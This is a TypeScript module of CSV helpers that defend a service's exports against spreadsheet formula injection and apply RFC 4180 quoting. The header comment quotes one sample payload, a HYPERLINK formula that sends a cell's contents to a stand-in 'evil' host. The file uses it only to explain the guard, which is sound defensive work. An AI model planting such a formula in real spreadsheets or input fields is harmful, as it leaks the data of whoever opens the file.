/*
 * Every CSV the service writes (open data, the council report, a project's history export) is
 * written through csvCell, so every cell gets the same two treatments:
 *
 * - Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`,
 *   `+`, `-`, `@`, a tab or a carriage return as a formula, so a project title such as
 *   `=HYPERLINK("http://evil/?"&A1)` would run on an officer's machine. Such a cell is written with
 *   a leading `'`, which spreadsheets show as text and do not evaluate. A cell that already starts
 *   with `'` gets one too, so the guard can be undone exactly (csvUnguard, used by the offline
 *   export check). Numbers are data, not formulas: a JavaScript number, or text that is only a
 *   decimal number (`-12.50`, `-3`), is left as it is.
 * - RFC 4180 quoting: quoted only when it holds a comma, quote or line break.
 */

const FORMULA_START = /^[=+\-@\t\r']/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** The cell's text with the formula guard: a leading `'` where a spreadsheet would evaluate it. */
export function csvGuard(s: string): string {
  return FORMULA_START.test(s) && !PLAIN_NUMBER.test(s) ? `'${s}` : s;
}

/** The text a guarded cell was written from (the inverse of csvGuard, for readers of our own CSV). */
export function csvUnguard(s: string): string {
  return s.startsWith("'") && FORMULA_START.test(s.slice(1)) ? s.slice(1) : s;
}

/** One CSV cell: formula-guarded, quoted only when it holds a comma, quote or line break; absent is empty. */
export const csvCell = (v: string | number | null | undefined): string => {
  const s = v === undefined || v === null ? '' : typeof v === 'number' ? String(v) : csvGuard(v);
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
};

type CsvRow<C extends string> = Partial<Record<C, string | number | null | undefined>>;

/** One CRLF-terminated line: the header when no row is given, else the row's cells in column order. */
export function csvLine<C extends string>(columns: readonly C[], row?: CsvRow<C>): string {
  return `${row ? columns.map((c) => csvCell(row[c])).join(',') : columns.join(',')}\r\n`;
}

/** A header line, then one line per row, CRLF-terminated. */
export function toCsv<C extends string>(columns: readonly C[], rows: readonly CsvRow<C>[]): string {
  return csvLine(columns) + rows.map((row) => csvLine(columns, row)).join('');
}
